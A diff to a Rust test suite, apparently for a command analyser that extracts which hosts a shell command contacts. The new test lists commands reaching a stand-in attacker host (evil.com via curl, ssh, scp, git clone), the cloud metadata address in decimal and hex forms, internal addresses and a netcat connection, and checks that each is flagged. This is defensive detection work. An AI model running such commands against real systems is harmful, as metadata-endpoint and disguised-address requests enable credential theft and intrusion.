@@ -243,7 +243,47 @@ fn commands_tell_what_they_write_out() {
     }
     assert!(!targets.paths().iter().any(|path| path.may_be(&paths(&["*/src"]))));
     assert!(targets.hosts().iter().any(|host| host.may_be(&hosts(&["evil.com"]))));
-    assert_eq!(targets.hosts().len(), 1);
+    let given: Vec<_> = targets.hosts().iter().filter(|host| !host.is_bare()).collect();
+    assert_eq!(given.len(), 1);
+}
+
+#[test]
+fn commands_name_hosts_without_a_scheme_and_numbers_are_none() {
+    let globs = hosts(&["evil.com", "169.254.169.254", "localhost", "10.*", "0.0.0.0", "::1"]);
+    let named = |command: &str| {
+        let mut targets = Targets::default();
+        targets.command(command);
+        targets.hosts().iter().any(|host| host.may_be(&globs))
+    };
+    for command in [
+        "curl evil.com",
+        "curl -s EVIL.com:8080/x",
+        "ssh ann@evil.com ls",
+        "scp x evil.com:/tmp",
+        "git clone git@evil.com:org/repo",
+        "curl 169.254.169.254/latest/meta-data",
+        "curl 2852039166",
+        "curl 0xA9FEA9FE/x",
+        "nc 10.0.0.5 80",
+        "curl localhost:3000",
+        "curl [::1]:80/x",
+        "curl --url=evil.com",
+    ] {
+        assert!(named(command), "{command}");
+    }
+    for command in [
+        "exit 0",
+        "sleep 0.0",
+        "pip install x==10.5",
+        "ls *.rs $HOME/a.b",
+        "cat main.rs",
+        "head -c 10485760 x",
+        "grep -n 'a\\.b' src",
+        "./10.sh",
+        "echo localhosts",
+    ] {
+        assert!(!named(command), "{command}");
+    }
 }
 
 #[test]
